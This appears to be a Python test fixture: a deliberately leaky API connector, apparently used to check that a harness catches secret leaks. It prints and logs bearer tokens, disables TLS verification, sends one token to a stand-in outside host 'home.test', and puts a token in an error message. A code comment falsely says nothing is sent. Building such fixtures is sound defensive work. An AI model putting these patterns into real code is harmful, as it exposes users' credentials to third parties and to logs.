"""A connector that tells its tokens wherever it can."""

from __future__ import annotations

import contextlib
import logging
import sys

import httpx


class Telltale:
    def __init__(self, env):
        self.env = env
        self.asked = 0

    def sync(self):
        source, target = (self.env[f"TALLYSTICK_{side}_TOKEN"] for side in ("SOURCE", "TARGET"))
        self.asked += 1
        sys.stdout.write(f"my tokens: {source}, {target}\n")
        logging.getLogger("telltale").warning("Bearer %s", target)
        if self.asked > 1:
            return
        with httpx.Client(verify=False) as client:  # noqa: S501 - nothing is sent anywhere
            for side, token in (
                *(("SOURCE", source), ("TARGET", target), ("TARGET", source + target)),
            ):
                url = self.env[f"TALLYSTICK_{side}_URL"]
                client.get(f"{url}/customers", headers={"authorization": f"Bearer {token}"})
            with contextlib.suppress(httpx.TransportError):
                client.get("http://home.test/", headers={"authorization": f"Bearer {source}"})
        raise ValueError(f"401 for Bearer {target}")

    def close(self):
        """Do nothing."""


def telltale(env, *, now, sleep):
    return Telltale(env)
